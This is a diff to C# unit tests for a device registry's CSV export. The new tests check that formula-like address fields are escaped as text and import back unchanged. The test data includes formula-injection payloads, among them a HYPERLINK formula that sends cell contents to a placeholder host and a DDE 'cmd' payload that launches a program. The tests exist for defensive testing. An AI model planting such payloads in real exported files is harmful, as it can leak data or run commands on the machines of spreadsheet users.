@@ -55,13 +55,22 @@ public sealed class RegistryCsvTests
         Assert.Equal(2 + address.Count(c => c == '\n') + 1, rows[1].Row);
     }
 
-    [Fact]
-    public void A_formula_like_field_is_exported_as_it_is()
+    [Theory]
+    [Trait("Category", "Privacy")]
+    [InlineData("=HYPERLINK(\"http://x/?\"&A2,\"x\")")]
+    [InlineData("+1+cmd|' /C calc'!A0")]
+    [InlineData("-2+3")]
+    [InlineData("@SUM(A1:A9)")]
+    [InlineData("\t=1+1")]
+    [InlineData("\r=1+1")]
+    public void A_formula_like_field_is_exported_as_text_and_imports_back_unchanged(string address)
     {
-        string csv = RegistryCsv.Export([Device("=1+1")]);
+        string csv = RegistryCsv.Export([Device(address)]);
 
-        Assert.Contains(",=1+1,", csv, StringComparison.Ordinal);
-        Assert.Equal("=1+1", Assert.Single(Parse(csv).Rows).Fields["address"]);
+        // A spreadsheet shows a field that starts with ' as text; the field is quoted so the ' stays its first character.
+        Assert.Contains(",\"'" + address.Replace("\"", "\"\"", StringComparison.Ordinal) + "\",", csv, StringComparison.Ordinal);
+        Assert.DoesNotContain("," + address, csv, StringComparison.Ordinal);
+        Assert.Equal(address, Assert.Single(Parse(csv).Rows).Fields["address"]);
     }
 
     [Theory]
